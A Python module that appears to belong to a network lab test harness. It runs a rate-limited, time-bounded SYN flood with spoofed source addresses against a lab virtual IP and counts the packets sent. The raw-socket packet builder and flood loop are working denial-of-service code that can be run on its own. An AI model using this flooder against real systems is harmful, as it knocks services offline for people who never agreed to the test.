"""SYNs from addresses that nobody has, in the client's namespace, at a bounded rate for the length of a block."""

import random
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

SCRIPT = Path(__file__)
SOURCES = "203.0.113.{}"  # the client's network, beyond its own addresses
LONGEST = 20  # seconds


class SynFlood:
    """`sent` is how many there were, after the block."""

    def __init__(self, rate: int):
        self._rate = rate

    def __enter__(self) -> "SynFlood":
        from lab import layout

        command = layout.run_in(layout.CLIENT.namespace, "/usr/bin/python3", "-B", str(SCRIPT), layout.VIP, str(self._rate))
        self._process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        return self

    def __exit__(self, *_) -> None:
        self._process.stdin.close()
        self.sent = int(self._process.stdout.read())
        self._process.wait()


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(vip: str) -> bytes:
    addresses = socket.inet_aton(SOURCES.format(random.randrange(100, 250))) + socket.inet_aton(vip)
    header = [random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0]
    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    header[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *header))
    # The kernel fills in length, identification and checksum of what is zero here.
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses
    return ip + struct.pack("!HHIIBBHHH", *header)


def flood(vip: str, rate: int) -> int:
    import select

    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, begun = 0, time.monotonic()
    while (passed := time.monotonic() - begun) < LONGEST and not select.select([sys.stdin], [], [], 0.002)[0]:
        for _ in range(int(passed * rate) - sent):
            sender.sendto(syn(vip), (vip, 0))
            sent += 1
    return sent


if __name__ == "__main__":
    print(flood(sys.argv[1], int(sys.argv[2])))
